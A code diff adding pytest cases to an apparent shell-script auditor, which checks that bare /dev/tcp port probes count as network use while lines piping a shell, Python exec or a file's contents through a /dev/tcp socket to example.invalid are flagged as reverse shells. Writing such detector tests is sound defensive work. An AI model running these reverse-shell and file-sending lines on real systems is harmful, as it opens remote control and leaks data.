@@ -269,3 +269,31 @@ def test_a_quote_that_is_never_closed_is_incomplete() -> None:
 @pytest.mark.parametrize("script", ["$(" * 50_000, "${" * 50_000, '"$(' * 30_000, "$((" * 50_000, "<(" * 50_000])
 def test_deep_nesting_is_incomplete_and_not_a_crash(script: str) -> None:
     assert audit(script).verdict is not Verdict.PASS
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        '(exec 3<>"/dev/tcp/$host/$port") 2>/dev/null && echo up\n',
+        "exec 3<>/dev/tcp/localhost/80\nexec 3<&-\nexec 3>&-\n",
+        "(: >/dev/tcp/localhost/80) 2>/dev/null\n",
+    ],
+)
+def test_a_port_that_is_only_asked_is_a_connection(script: str) -> None:
+    rules = found(script)
+    assert "code-network" in rules
+    assert "shell-reverse-shell" not in rules
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "exec 3<>/dev/tcp/example.invalid/80\nsh <&3 >&3\nexec 3>&-\n",
+        "(exec 3<>/dev/tcp/example.invalid/80; sh <&3 >&3)\n",
+        "exec 0<>/dev/tcp/example.invalid/80\n",
+        "exec 3<>/dev/tcp/example.invalid/80\npython3 -c 'import os; exec(os.fdopen(3).read())'\nexec 3>&-\n",
+        "cat notes.txt >/dev/tcp/example.invalid/80\n",
+    ],
+)
+def test_a_connection_that_something_uses_is_a_reverse_shell(script: str) -> None:
+    assert "shell-reverse-shell" in found(script)
